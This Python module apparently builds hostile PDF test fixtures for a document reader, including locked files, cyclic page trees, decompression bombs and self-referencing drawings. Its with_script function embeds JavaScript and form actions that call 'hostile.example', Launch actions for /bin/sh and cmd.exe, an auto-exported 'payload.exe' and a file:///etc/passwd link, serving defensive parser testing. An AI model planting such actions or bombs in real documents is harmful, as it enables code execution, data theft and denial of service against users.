"""Hostile PDFs: locked, cut, swollen, endless, or with something in them that wants to run."""

from __future__ import annotations

import io
import random
from collections.abc import Callable
from functools import cache
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.hostile.raw import BASE, PAGE, bomb, drawing, flate, raw, showing, stream
from tests.readers.making import certificate, pdf

GREY = b"/ColorSpace/DeviceGray/BitsPerComponent 8"


@cache
def good() -> bytes:
    """A certificate with a text layer."""
    return pdf(certificate())


def changed(change: Callable[[pikepdf.Pdf], None], **settings: Any) -> bytes:
    """The certificate after a change of its objects."""
    document = pikepdf.open(io.BytesIO(good()))
    change(document)
    out = io.BytesIO()
    document.save(out, **settings)
    return out.getvalue()


def locked(user: str, owner: str = "owner") -> bytes:
    """The certificate under passwords."""
    return changed(lambda _: None, encryption=pikepdf.Encryption(owner=owner, user=user))


def unknown_lock() -> bytes:
    """A security handler that nobody has."""
    return raw(trailer=b"/Encrypt<</Filter/Nobody.Has.This/V 9/R 9/P -4/O(o)/U(u)>>/ID[(a)(a)]")


def with_script() -> bytes:
    """A certificate with everything that a viewer might run, open, send or unpack."""

    def change(document: pikepdf.Pdf) -> None:
        run = Dictionary(S=Name.JavaScript, JS="app.launchURL('http://hostile.example');")
        launch = Dictionary(S=Name.Launch, F="/bin/sh", Win=Dictionary(F="cmd.exe", P="/c calc"))
        send = Dictionary(S=Name.SubmitForm, F="http://hostile.example/take", Next=launch)
        document.attachments["payload.exe"] = b"MZ" + bytes(1000)
        root = document.Root
        root.OpenAction = Dictionary(S=Name.JavaScript, JS="this.exportDataObject({cName:'payload.exe',nLaunch:2});")
        root.AA = Dictionary(WC=run, DP=send)
        root.Names.JavaScript = Dictionary(Names=Array(["start", run]))
        root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp><script>1</script></xdp>"))
        page = document.pages[0].obj
        page.AA = Dictionary(O=launch, C=Dictionary(S=Name.URI, URI="file:///etc/passwd"))

    return changed(change)


def deep_tree(depth: int) -> bytes:
    """A page below so many tree nodes."""
    nodes = {10 + i: b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>" % (9 + i, 11 + i) for i in range(depth)}
    nodes[10] = nodes[10].replace(b"/Parent 9 0 R", b"/Parent 2 0 R")
    nodes[10 + depth] = PAGE.replace(b"/Parent 2 0 R", b"/Parent %d 0 R" % (9 + depth))
    return raw({2: b"<</Type/Pages/Kids[10 0 R]/Count 1>>", 3: b"null", **nodes})


def looped_tree() -> bytes:
    """Page tree nodes that are each other's children."""
    return raw(
        {2: b"<</Type/Pages/Kids[5 0 R]/Count 9>>", 5: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 5 0 R]/Count 9>>"}
    )


def counted(count: int) -> bytes:
    """A file that says it has so many pages, and has one."""
    return raw({2: b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count})


def many_pages(count: int) -> bytes:
    """So many empty pages."""
    kids = b" ".join(b"%d 0 R" % (10 + i) for i in range(count))
    pages = {10 + i: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>" for i in range(count)}
    return raw({2: b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids), 3: b"null", **pages})


def one_page_often(count: int) -> bytes:
    """One page, named as a child so many times."""
    return raw({2: b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, b"3 0 R " * count)})


def boxed(box: bytes) -> bytes:
    """A page with words in a strange media box."""
    page = PAGE.replace(b"[0 0 595 842]", box).replace(
        b"<<>>", b"<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    )
    return raw(
        {3: page, 4: stream(b"BT /F1 12 Tf 90 700 Td (Certificate ISO 9001:2015 of a page without a size) Tj ET")}
    )


def form_calling_itself() -> bytes:
    """A drawing that draws itself."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F 5 0 R>>>>"
    return drawing(b"/F Do", b"/XObject<</F 5 0 R>>", {5: stream(b"/F Do /F Do", form)})


def forms_doubling(depth: int) -> bytes:
    """A drawing of two drawings of two drawings: two to the power of `depth`, in a few kilobytes."""
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F %d 0 R>>>>"
    forms = {5 + i: stream(b"/F Do /F Do", head % (6 + i)) for i in range(depth)}
    forms[5 + depth] = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return drawing(b"/F Do", b"/XObject<</F 5 0 R>>", forms)


def pattern_in_itself() -> bytes:
    """A tiling pattern that is filled with itself."""
    head = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .01/YStep .01"
    own = stream(b"/Pattern cs /P scn 0 0 1 1 re f", head + b"/Resources<</Pattern<</P 5 0 R>>>>")
    return drawing(b"/Pattern cs /P scn 0 0 595 842 re f", b"/Pattern<</P 5 0 R>>", {5: own})


def glyph_in_itself() -> bytes:
    """A type 3 font whose letter writes that letter."""
    font = b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
    font += b"/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</T 5 0 R>>>>>>"
    glyph = stream(b"9 0 d0 BT /T 9 Tf (aaaa) Tj ET")
    return drawing(b"BT /T 12 Tf 90 700 Td (aaaaaaaaaaaaaaaaaaaaaa) Tj ET", b"/Font<</T 5 0 R>>", {5: font, 6: glyph})


def nested(depth: int) -> bytes:
    """Lists in lists and dictionaries in dictionaries, in the catalogue and on the page."""
    deep = b"[" * depth + b"]" * depth + b"<</A" * depth + b" 1" + b">>" * depth
    return raw(
        {1: b"<</Type/Catalog/Pages 2 0 R/Deep[%s]>>" % deep, 4: stream(b"/A [" + deep + b"] BDC EMC" + b"q " * depth)}
    )


def stream_in_itself() -> bytes:
    """An object stream that contains itself, and one that extends itself."""
    own = b"5 0 <</Type/ObjStm/N 1/First 4/Length 5 0 R>>"
    return raw({1: b"<</Type/Catalog/Pages 2 0 R/X 5 0 R>>", 5: flate(own, b"/Type/ObjStm/N 1/First 4/Extends 5 0 R")})


def length_of_itself() -> bytes:
    """A stream whose length is the stream, and a reference to itself."""
    return raw(
        {
            4: b"<</Length 4 0 R>>stream\nq\nendstream",
            5: b"5 0 R",
            3: PAGE.replace(b"595 842]", b"595 842]/Rotate 5 0 R"),
        }
    )


def sections_in_a_ring() -> bytes:
    """A cross-reference table whose earlier one is itself."""
    content = raw()
    start = content.rindex(b"xref\n0 ")
    return content.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


def table_into_nowhere() -> bytes:
    """A cross-reference table that points far behind the end, and a start that does too."""
    content = raw().replace(b"00000 n", b"00000 n").replace(b"0000000015", b"9999999999")
    return content[: content.rindex(b"startxref")] + b"startxref\n99999999999999999999\n%%EOF\n"


def huge_table() -> bytes:
    """A cross-reference table of two thousand million entries, in words."""
    return raw().replace(b"xref\n0 5", b"xref\n0 2147483647").replace(b"/Size 5", b"/Size 2147483647")


def many_objects(count: int) -> bytes:
    """So many objects without a purpose; 26 MB for two million."""
    head = raw()
    filler = b"".join(b"%d 0 obj 0 endobj\n" % i for i in range(10, 10 + count))
    return head[: head.index(b"xref")] + filler + head[head.index(b"xref") :]


def many_strokes(count: int) -> bytes:
    """A content stream, packed a thousand to one, that draws so many lines."""
    return raw({4: flate(b"0 0 m 9 9 l S\n" * count)})


def many_letters(count: int) -> bytes:
    """A page of so many letters, packed a thousand to one."""
    font = b"/Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>"
    text = b"BT /F1 3 Tf 1 0 0 1 10 800 Tm " + b"(ISO 9001 of a thing) Tj 1 -1 Td\n" * (count // 20) + b"ET"
    return raw({3: PAGE.replace(b"/Resources<<>>", b"/Resources<<%s>>" % font), 4: flate(text)})


def content_bomb(size: int) -> bytes:
    """A content stream that unpacks to blanks."""
    return raw({4: bomb(size, letter=b" ")})


def double_packed(size: int) -> bytes:
    """A bomb packed twice: some kilobytes for a gigabyte."""
    return raw({4: flate(zeros_of(size), b"").replace(b"/Filter/FlateDecode", b"/Filter[/FlateDecode/FlateDecode]")})


def zeros_of(size: int) -> bytes:
    """Zeros, packed once."""
    from tests.hostile.raw import zeros

    return zeros(size)


def picture_bomb(side: int) -> bytes:
    """An embedded picture of side x side, packed to almost nothing."""
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d" % (side, side) + GREY
    return drawing(b"595 0 0 842 0 0 cm /I Do", b"/XObject<</I 5 0 R>>", {5: bomb(min(side * side, 10**9), head)})


def mask_bomb(side: int, often: int) -> bytes:
    """A stencil of side x side with a soft mask of the same size, painted very often."""
    mask = b"/Type/XObject/Subtype/Image/Width %d/Height %d" % (side, side) + GREY
    picture = mask + b"/SMask 6 0 R"
    shown = b"q 595 0 0 842 0 0 cm /I Do Q\n" * often
    return drawing(shown, b"/XObject<</I 5 0 R>>", {5: bomb(side * side, picture), 6: bomb(side * side, mask)})


def in_filter(name: bytes, content: bytes, entries: bytes = GREY) -> bytes:
    """A picture in a compression whose data is not what it says."""
    return showing(entries + b"/Filter/" + name, content, 3000, 3000)


def noise(size: int, seed: int = 1) -> bytes:
    """Bytes of chance, the same each time."""
    return random.Random(seed).randbytes(size)  # noqa: S311 - the same each time is what is wanted


def jpx(wide: int, high: int) -> bytes:
    """A JPEG 2000 code stream that claims a size and then ends in noise."""
    size = b"\xff\x51\x00\x29\x00\x00" + b"".join(n.to_bytes(4, "big") for n in (wide, high, 0, 0, wide, high, 0, 0))
    size += b"\x00\x01\x07\x01\x01"
    coding = b"\xff\x52\x00\x0c\x00\x00\x00\x01\x00\x05\x04\x04\x00\x01\xff\x5c\x00\x13\x40" + b"\x40" * 16
    return b"\xff\x4f" + size + coding + b"\xff\x90\x00\x0a\x00\x00\x00\x00\x00\x00\x00\x01\xff\x93" + noise(500)


def broken_font(table: bytes, font: bytes = b"") -> bytes:
    """Text in a font whose table of characters is given, and whose file is noise."""
    kind = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 6 0 R/DescendantFonts[<</Type/Font"
    kind += b"/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>"
    kind += b"/DW 600/FontDescriptor<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 7 0 R>>>>]>>"
    text = b"BT /F1 12 Tf 90 700 Td <" + b"".join(b"%04x" % n for n in range(1, 60)) + b"> Tj ET"
    return drawing(text, b"/Font<</F1 5 0 R>>", {5: kind, 6: stream(table), 7: stream(font or noise(3000))})


def cut(part: int) -> bytes:
    """The first tenths of a certificate."""
    return good()[: len(good()) * part // 10]


def flipped(seed: int) -> bytes:
    """The certificate with one wrong byte."""
    content = bytearray(good())
    place = random.Random(seed).randrange(len(content))  # noqa: S311 - the same each time is what is wanted
    content[place] ^= 0xFF
    return bytes(content)


def without_pages() -> bytes:
    """A catalogue without a page tree."""
    return raw({1: b"<</Type/Catalog>>", 2: BASE[4], 3: b"null"})


def claimed_signature() -> bytes:
    """A signature that is noise, with a range that lies outside the file."""
    seal = (
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 9 99999999999 -5]/Contents<%s>>>"
    )
    field = b"<</FT/Sig/T(Seal)/V 6 0 R/Kids[5 0 R]/Parent 5 0 R>>"
    root = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[5 0 R]>>>>"
    return raw({1: root, 5: field, 6: seal % noise(2000).hex().encode()})
